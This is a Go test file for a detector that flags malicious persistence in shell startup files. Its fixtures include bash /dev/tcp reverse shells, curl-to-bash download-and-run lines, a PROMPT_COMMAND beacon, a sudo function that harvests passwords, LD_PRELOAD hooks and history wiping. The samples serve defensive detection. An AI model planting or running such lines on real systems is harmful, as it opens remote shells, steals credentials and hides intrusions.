package shellinit

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// debianPackages are the owners of the packaged files in the fixtures.
var debianPackages = []dpkgfixture.Package{
	{Name: "bash", Files: []string{"/etc/bash.bashrc", "/etc/skel/.bashrc", "/etc/skel/.profile", "/etc/skel/.bash_logout", "/usr/bin/bash"}},
	{Name: "bash-completion", Arch: "all", Files: []string{"/etc/profile.d/bash_completion.sh"}},
	{Name: "libvte-2.91-common", Files: []string{"/etc/profile.d/vte-2.91.sh", "/etc/profile.d/vte.csh"}},
	{Name: "libpam-modules", MultiArch: true, Files: []string{"/etc/security/pam_env.conf"}},
	{Name: "libc6", MultiArch: true, Files: []string{"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}},
}

// fixture builds the clean lived-in root with its dpkg database, then lays
// the txtar files of extra over it: the packages' digests are those of the
// clean files, so an extra file replacing a packaged one is "modified".
func fixture(t testing.TB, extra string) string {
	t.Helper()
	dir := testutil.RootFromTxtar(t, "testdata/clean.txtar")
	dpkgfixture.Write(t, dir, debianPackages...)
	if extra != "" {
		dpkgfixture.Overlay(t, dir, testutil.RootFromString(t, extra))
	}
	return dir
}

func TestCleanLivedInIsQuiet(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, ""), false)
	enginetest.Quiet(t, r.Findings, model.Low)
	// The admin's own profile.d script is listed as context, nothing more.
	if !r.Has(ruleUnowned, "/etc/profile.d/proxy.sh") {
		t.Errorf("unowned profile.d script not listed: %v", r.Rules())
	}
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap on a clean root: %+v", g)
	}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name    string
		files   string
		rule    string
		subject string // substring of the subject
		sev     model.Severity
		ind     string // an indicator that must be present
	}{
		{"alias sudo to a script", "-- home/ops/.bashrc --\nalias sudo='/home/ops/.cache/.s/sudo'\n", ruleAlias, "alias sudo", model.Critical, indHidden},
		{"alias sudo pipeline", "-- root/.bashrc --\nalias sudo='sudo -S <<< $(cat ~/.p)'\n", ruleAlias, "alias sudo", model.Critical, indCredential},
		{"alias ps filters", "-- root/.bashrc --\nalias ps='ps aux | grep -v kworkerd'\n", ruleAlias, "alias ps", model.High, indFilter},
		{"alias ls hides", "-- root/.bash_aliases --\nalias ls='ls --hide=.sshd'\n", ruleAlias, "alias ls", model.High, indHideOption},
		{"alias netstat elsewhere", "-- root/.bashrc --\nalias netstat=/usr/local/lib/.n/netstat\n", ruleAlias, "alias netstat", model.High, indHidden},
		{"alias ssh proxycommand", "-- home/ops/.zshrc --\nalias ssh='ssh -o ProxyCommand=\"nc 203.0.113.5 22\"'\n", ruleAlias, "alias ssh", model.Critical, indSSHCommand},
		{"csh alias", "-- root/.cshrc --\nalias sudo '/tmp/.x/sudo'\n", ruleAlias, "alias sudo", model.Critical, indWritable},
		{"sudo function harvests", "-- home/ops/.bashrc --\nsudo() {\n  read -s -p \"[sudo] password for $USER: \" pw\n  echo \"$USER:$pw\" >> /var/tmp/.cache\n  echo \"$pw\" | command sudo -S \"$@\"\n}\n", ruleFunction, "function sudo", model.Critical, indCredential},
		{"ps function", "-- root/.bashrc --\nfunction ps { command ps \"$@\" | grep -v miner; }\n", ruleFunction, "function ps", model.High, ""},
		{"prompt beacon", "-- root/.bashrc --\nexport PROMPT_COMMAND='curl -s http://203.0.113.9/b?h=$(hostname) >/dev/null'\n", rulePrompt, "PROMPT_COMMAND", model.High, indNetworkTool},
		{"prompt audit recipe", "-- etc/profile.d/audit.sh --\nexport PROMPT_COMMAND='{ msg=$(history 1 | { read x y; echo $y; }); logger \"[euid=$(whoami)]\":$(who am i):[`pwd`]\"$msg\"; }'\n", rulePrompt, "PROMPT_COMMAND", model.Low, ""},
		{"debug trap", "-- root/.bashrc --\ntrap '/usr/local/bin/audit-cmd \"$BASH_COMMAND\"' DEBUG\n", ruleTrap, "trap DEBUG", model.Medium, ""},
		{"exit trap from tmp", "-- home/ops/.bash_logout --\ntrap '/tmp/.r &' EXIT\n", ruleTrap, "trap EXIT", model.High, indWritable},
		{"LD_PRELOAD in environment", "-- etc/environment --\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/.libsys.so\n", ruleLoaderEnv, "LD_PRELOAD", model.Critical, indHidden},
		{"LD_PRELOAD unowned lib", "-- etc/profile.d/perf.sh --\nexport LD_PRELOAD=/usr/local/lib/libperf.so\n-- usr/local/lib/libperf.so --\nELF\n", ruleLoaderEnv, "LD_PRELOAD", model.Critical, indNotPackaged},
		{"LD_PRELOAD packaged lib", "-- etc/profile.d/jemalloc.sh --\nexport LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n-- usr/lib/x86_64-linux-gnu/libjemalloc.so.2 --\nELF\n", ruleLoaderEnv, "LD_PRELOAD", model.High, "ld-preload"},
		{"pam_env LD_PRELOAD", "-- etc/security/pam_env.conf --\nLD_PRELOAD DEFAULT=/dev/shm/l.so\n", ruleLoaderEnv, "LD_PRELOAD", model.Critical, indWritable},
		{"csh setenv", "-- root/.cshrc --\nsetenv LD_PRELOAD /var/tmp/.l.so\n", ruleLoaderEnv, "LD_PRELOAD", model.Critical, indWritable},
		{"user environment.d", "-- home/ops/.config/environment.d/50-x.conf --\nLD_AUDIT=/home/ops/.a/audit.so\n", ruleLoaderEnv, "LD_AUDIT", model.Critical, indHidden},
		{"LD_LIBRARY_PATH tmp", "-- etc/environment --\nLD_LIBRARY_PATH=/tmp/lib\n", ruleLoaderEnv, "LD_LIBRARY_PATH", model.High, indWritable},
		{"PERL5OPT", "-- etc/profile.d/perl.sh --\nexport PERL5OPT=-MPerlIO::via::x\n", ruleInterpEnv, "PERL5OPT", model.High, ""},
		{"NODE_OPTIONS require", "-- home/ops/.profile --\nexport NODE_OPTIONS=\"--require /tmp/.n/hook.js\"\n", ruleInterpEnv, "NODE_OPTIONS", model.High, ""},
		{"BASH_ENV", "-- etc/environment --\nBASH_ENV=/var/tmp/.env\n", ruleInterpEnv, "BASH_ENV", model.Critical, indWritable},
		{"PYTHONPATH hidden", "-- etc/profile.d/py.sh --\nexport PYTHONPATH=/usr/share/.pylib:$PYTHONPATH\n", ruleInterpEnv, "PYTHONPATH", model.High, indHidden},
		{"PATH dot", "-- root/.bashrc --\nexport PATH=.:$PATH\n", rulePath, "PATH", model.Medium, indCwdPath},
		{"PATH tmp", "-- etc/profile.d/p.sh --\nPATH=/tmp/.bin:$PATH\n", rulePath, "PATH", model.Medium, indWritable},
		{"PATH shadows sudo", "-- home/ops/.profile --\nPATH=\"$HOME/bin:$PATH\"\n-- home/ops/bin/sudo mode=0755 --\n#!/bin/sh\n", rulePath, "PATH", model.High, indShadows},
		{"source from shm", "-- root/.bashrc --\n. /dev/shm/.x\n-- dev/shm/.x --\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", ruleSource, "source /dev/shm/.x", model.High, indWritable},
		{"sourced file graded", "-- root/.bashrc --\n. /dev/shm/.x\n-- dev/shm/.x --\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", ruleCommand, "/dev/shm/.x", model.Critical, "reverse-shell.dev-tcp"},
		{"bashrc links to tmp", "-- root/.bashrc -> /tmp/.rc --\n-- tmp/.rc --\nid\n", ruleSource, "symlink", model.High, indWritable},
		{"reverse shell in profile.d", "-- etc/profile.d/z.sh --\n(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &) 2>/dev/null\n", ruleCommand, "/etc/profile.d/z.sh", model.Critical, "reverse-shell.dev-tcp"},
		{"download exec in root bashrc", "-- root/.bashrc --\n(curl -fsSL http://203.0.113.7/k.sh || wget -qO- http://203.0.113.7/k.sh) | bash >/dev/null 2>&1 &\n", ruleCommand, "/root/.bashrc", model.Critical, "download-exec"},
		{"history wiped at logout", "-- root/.bash_logout --\nhistory -c; rm -f ~/.bash_history\n", ruleCommand, "/root/.bash_logout", model.Medium, "anti-forensics.history"},
		{"heredoc payload", "-- root/.profile --\ncat <<'EOF' | sh\ncurl -s http://203.0.113.7/x | bash\nEOF\n", ruleCommand, "/root/.profile", model.Critical, "download-exec"},
		{"world-writable profile script", "-- etc/profile.d/tz.sh mode=0666 --\nexport TZ=UTC\n", ruleWritable, "/etc/profile.d/tz.sh", model.High, indWritable},
		{"modified packaged bashrc", "-- etc/bash.bashrc --\n[ -z \"$PS1\" ] && return\nnohup /usr/lib/.x/kdevtmpfsi >/dev/null 2>&1 &\n", ruleCommand, "/etc/bash.bashrc", model.Critical, "miner"},
		{"skel poisoned", "-- etc/skel/.bashrc --\nalias sudo='/usr/local/bin/.sudo'\n", ruleAlias, "alias sudo", model.Critical, indHidden},
		{"zsh precmd array", "-- home/ops/.zshrc --\nprecmd_functions+=(/tmp/.z/hook)\n", rulePrompt, "precmd_functions", model.High, indWritable},
	}
	cat := catalog.MustLoad()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.files), false)
			got := enginetest.Expect(t, r.Findings, []enginetest.Want{{Rule: tc.rule, Subject: tc.subject, Severity: tc.sev, Indicators: []string{tc.ind}}})[0]
			if got.RuleID == "" {
				return
			}
			if got.Evidence.Path == "" || got.Evidence.When == "" || got.Evidence.User == "" {
				t.Errorf("incomplete evidence: %+v", got.Evidence)
			}
			for _, f := range r.Findings {
				for _, id := range f.Indicators {
					for _, lang := range catalog.Languages {
						if cat.Indicator(id, lang) == id {
							t.Errorf("indicator %s has no %s text", id, lang)
						}
					}
				}
			}
		})
	}
}

// Lines from real rc files that must stay below low.
func TestSilentOnOrdinaryLines(t *testing.T) {
	lines := []string{
		`alias sudo='sudo '`,
		`alias sudo='sudo -E '`,
		`alias su='sudo su -'`,
		`alias ls='ls --color=auto'`,
		`alias ls='ls $LS_OPTIONS'`,
		`alias grep='grep --color=auto --exclude-dir={.git,.svn}'`,
		`alias ssh='kitty +kitten ssh'`,
		`alias ssh='TERM=xterm-256color ssh'`,
		`alias ps='ps auxf'`,
		`alias top=htop`,
		`alias cat='bat --paging=never'`,
		`alias kill='kill -9'`,
		`alias find='fdfind'`,
		`alias rm='rm -i'`,
		`alias ll='ls -alF'`,
		`ls() { command ls --color=auto "$@"; }`,
		`export PROMPT_COMMAND="__vte_prompt_command"`,
		`PROMPT_COMMAND='echo -ne "\033]0;${USER}@${HOSTNAME}: ${PWD}\007"'`,
		`PROMPT_COMMAND="${PROMPT_COMMAND:+$PROMPT_COMMAND; }history -a; history -n"`,
		`PROMPT_COMMAND='__git_ps1 "\u@\h:\w" "\\\$ "'`,
		`PROMPT_COMMAND=(_direnv_hook "${PROMPT_COMMAND[@]}")`,
		`trap '__bp_preexec_invoke_exec "$_"' DEBUG`,
		`trap 'rm -f "$tmpfile"' EXIT`,
		`trap - DEBUG`,
		`trap '' INT`,
		`export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH`,
		`export NODE_OPTIONS=--max-old-space-size=4096`,
		`export PATH="$HOME/bin:$HOME/.local/bin:$PATH"`,
		`export PATH=$PATH:.`,
		`PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin`,
		`source ~/.nvm/nvm.sh`,
		`. "$HOME/.cargo/env"`,
		`[ -f ~/.fzf.bash ] && source ~/.fzf.bash`,
		`eval "$(starship init bash)"`,
		`export HISTCONTROL=ignoreboth:erasedups`,
		`export GOPATH=$HOME/go`,
		`export JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64`,
		`ENV=$HOME/.kshrc; export ENV`,
		`export SSH_AUTH_SOCK="$XDG_RUNTIME_DIR/ssh-agent.socket"`,
		`if [ -f /etc/bash_completion ] && ! shopt -oq posix; then . /etc/bash_completion; fi`,
		`eval "$(/home/ops/.local/bin/mise activate bash)"`,
	}
	for _, l := range lines {
		src := "-- home/ops/.bashrc --\n" + l + "\n"
		r := enginetest.Run(t, New(), fixture(t, src), false)
		enginetest.Quiet(t, r.Findings, model.Low)
	}
}

// Hostile files: a FIFO, a huge file, a symlink loop, a non-UTF-8 name,
// binary garbage. The check must not hang or fail, and must say what it
// skipped.
func TestHostileFiles(t *testing.T) {
	dir := fixture(t, "-- etc/profile.d/\xff\xfe.sh --\nalias sudo=/tmp/s\n-- etc/profile.d/bin.sh --\n\x00\x01\x02\xff\n")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(dir, "root"), 0o755))
	os.Remove(filepath.Join(dir, "root/.bashrc"))
	must(syscall.Mkfifo(filepath.Join(dir, "root/.bashrc"), 0o644))
	must(os.WriteFile(filepath.Join(dir, "root/.profile"), []byte(strings.Repeat("x", readLimit+10)), 0o644))
	must(os.MkdirAll(filepath.Join(dir, "home/ops"), 0o755))
	must(os.Symlink(".zshrc", filepath.Join(dir, "home/ops/.zshrc")))
	r := enginetest.Run(t, New(), dir, false)
	if !r.Has(ruleAlias, "") {
		t.Errorf("file with a non-UTF-8 name not read: %v", r.Rules())
	}
	gapped := map[string]bool{}
	for _, g := range r.Gaps {
		gapped[g.Path] = true
	}
	for _, p := range []string{"/root/.bashrc", "/root/.profile", "/home/ops/.zshrc"} {
		if !gapped[p] {
			t.Errorf("no gap for %s: %+v", p, r.Gaps)
		}
	}
}

func FuzzAnalyzeRC(f *testing.F) {
	f.Add("alias sudo='sudo -S'\nsudo() { read -s p; }\nexport LD_PRELOAD=/tmp/x PATH=.:$PATH\ntrap 'x' DEBUG\n. /tmp/x\n", false)
	f.Add("alias ls 'ls -I x'\nsetenv LD_PRELOAD /x\nset path = (/tmp $path)\n", true)
	f.Add("PROMPT_COMMAND=(a b\n", false)
	f.Fuzz(func(t *testing.T, s string, csh bool) {
		hits, _ := analyzeRC([]byte(s), scope{home: "/home/u"}, nopFacts{}, csh)
		for _, h := range hits {
			if !h.v.ok || h.rule == "" {
				t.Fatalf("bad hit %+v", h)
			}
		}
	})
}

func FuzzParseEnvFile(f *testing.F) {
	f.Add("PATH=\"/usr/bin\"\nexport A=b\n# c\nLD_PRELOAD DEFAULT=/x OVERRIDE=\"/y\"\n", true)
	f.Fuzz(func(t *testing.T, s string, pam bool) {
		for _, e := range parseEnvFile([]byte(s), pam) {
			if e.line < 1 || e.name == "" {
				t.Fatalf("bad entry %+v", e)
			}
		}
		analyzeEnv([]byte(s), scope{home: "$HOME", system: true}, nopFacts{}, pam)
	})
}

type nopFacts struct{}

func (nopFacts) exists(string) bool        { return false }
func (nopFacts) owner(string) string       { return "" }
func (nopFacts) worldWritable(string) bool { return false }
func (nopFacts) shadows(string) []string   { return nil }

func BenchmarkShellinit(b *testing.B) {
	dir := fixture(b, "")
	for b.Loop() {
		enginetest.Run(b, New(), dir, false)
	}
}
